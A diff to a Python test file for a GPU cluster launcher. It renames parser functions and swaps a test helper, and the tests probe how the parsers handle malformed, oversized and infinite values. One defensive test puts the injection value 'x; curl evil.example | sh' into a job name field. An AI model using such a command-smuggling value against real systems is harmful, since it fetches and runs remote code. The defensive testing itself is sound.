@@ -16,8 +16,8 @@ from launcher.hosts import pairs
 from launcher.hosts.discovery import local_assets
 from launcher.network import network_plan
 from launcher.tools import docker_read, gpu_survey, host_read, ray, ray_judges, serving_judges, vllm
-from launcher.tools.ray_judges import read_payload
-from tests import kept
+from launcher.tools.ray_judges import parse_payload
+from tests import supervision
 from tests.hostile import seeds
 
 
@@ -43,9 +43,9 @@ def usage(text: str) -> str:
             rows({"name": "vllm_Worker_a1", "state": "ALIVE", "node_id": [1]}), ()
         ),
         lambda: ray.parse_status("Active:\n " + "9" * 5000 + " node_a\n"),
-        lambda: read_payload(answer({"jobs": None})),
-        lambda: read_payload(answer({"jobs": [{"submission_id": 1, "status": "RUNNING"}]})),
-        lambda: read_payload(answer({"offset": 10**30})),
+        lambda: parse_payload(answer({"jobs": None})),
+        lambda: parse_payload(answer({"jobs": [{"submission_id": 1, "status": "RUNNING"}]})),
+        lambda: parse_payload(answer({"offset": 10**30})),
         lambda: docker_read.parse_containers(
             json.dumps([{"Name": "/a", "Id": {}, "Config": {}, "State": {}}])
         ),
@@ -53,7 +53,7 @@ def usage(text: str) -> str:
             '[{"Name": "/a", "Id": "b", "Config": {}, "State": {"ExitCode": 1e999}}]'
         ),
         lambda: docker_read.parse_containers("[" * 100_000),
-        lambda: pairs.parse(answer("[" * 100_000)),
+        lambda: pairs.parse_probes(answer("[" * 100_000)),
         lambda: host_read.parse_probe(
             "@@vlaunch home\n/\n@@vlaunch rc 0\n@@vlaunch addr\n"
             + "[" * 100_000
@@ -75,16 +75,18 @@ def test_answers_that_cannot_be_read(read: Callable[[], Any]) -> None:
 def test_figures_that_are_none() -> None:
     """Are left out."""
     assert (
-        vllm.capacity({"kv_cache_size_tokens": "inf", "kv_cache_max_concurrency": "nan"}).tokens
+        vllm.parse_capacity(
+            {"kv_cache_size_tokens": "inf", "kv_cache_max_concurrency": "nan"}
+        ).tokens
         is None
     )
     assert (
-        vllm.capacity(
+        vllm.parse_capacity(
             {}, "KV cache size: , tokens\nMaximum concurrency for 1 tokens per request: 1.2.3x"
         ).concurrency
         is None
     )
-    assert vllm.raised("") is None
+    assert vllm.find_exception("") is None
     assert ray.parse_status(usage("1.2.3/4 GPU")).gpus_total is None
     assert (
         serving_judges.busy_gpus(
@@ -92,7 +94,7 @@ def test_figures_that_are_none() -> None:
         )
         == 0
     )
-    assert serving_judges.claimed({"metadata": {serving_judges.GPUS: "inf"}}) == 0
+    assert serving_judges.claimed_gpus({"metadata": {serving_judges.GPUS: "inf"}}) == 0
 
 
 def test_a_name_that_is_a_command() -> None:
@@ -100,10 +102,10 @@ def test_a_name_that_is_a_command() -> None:
     job = seeds.job(
         "batch-1", {serving_judges.NAME: "x; curl evil.example | sh", serving_judges.GPUS: "1"}
     )
-    row = {**kept.one(kept.wanted()), "name": "x; curl evil.example | sh"}
-    assert serving_judges.holders(kept.said(row)) == []
-    assert serving_judges.job_holders({"jobs": [job]}) == []
-    assert serving_judges.batches({"jobs": [job]}) == []
+    row = {**supervision.server_row(supervision.make_spec()), "name": "x; curl evil.example | sh"}
+    assert serving_judges.gpu_users(supervision.head_report(row)) == []
+    assert serving_judges.job_gpu_users({"jobs": [job]}) == []
+    assert serving_judges.active_batches({"jobs": [job]}) == []
 
 
 def test_files_that_are_less_than_nothing() -> None:
@@ -115,7 +117,7 @@ def test_files_that_are_less_than_nothing() -> None:
 def test_a_report_of_another_node() -> None:
     """Counts for none."""
     said = json.dumps({"node": "gpu02", "backend": "gloo"})
-    assert network_plan.read({"gpu01": [answer(said)]}) == (
+    assert network_plan.parse_answers({"gpu01": [answer(said)]}) == (
         {},
         {"gpu01": "the network probe answered for another node"},
     )
@@ -144,7 +146,7 @@ def test_a_token_that_is_none() -> None:
 def test_tags_that_are_no_text() -> None:
     """Of an image that a host has."""
     item = {"Id": "a", "RootFS": {}, "Config": {}, "RepoTags": [1, "vllm:1"]}
-    found = local_assets.parse(
+    found = local_assets.parse_local_assets(
         f"@@stock home {'9' * 5000} /d\n@@stock images\n{json.dumps([item])}\n@@stock end\n"
     )
     assert list(found.images) == ["vllm:1"]
@@ -154,7 +156,7 @@ def test_tags_that_are_no_text() -> None:
 def test_spaces_without_end() -> None:
     """A pattern that tries every way to part them."""
     began = time.thread_time()
-    gpu_survey.read_processes("GPU-x, 1," + " " * 200_000)
+    gpu_survey.parse_processes("GPU-x, 1," + " " * 200_000)
     assert time.thread_time() - began < 2
 
 
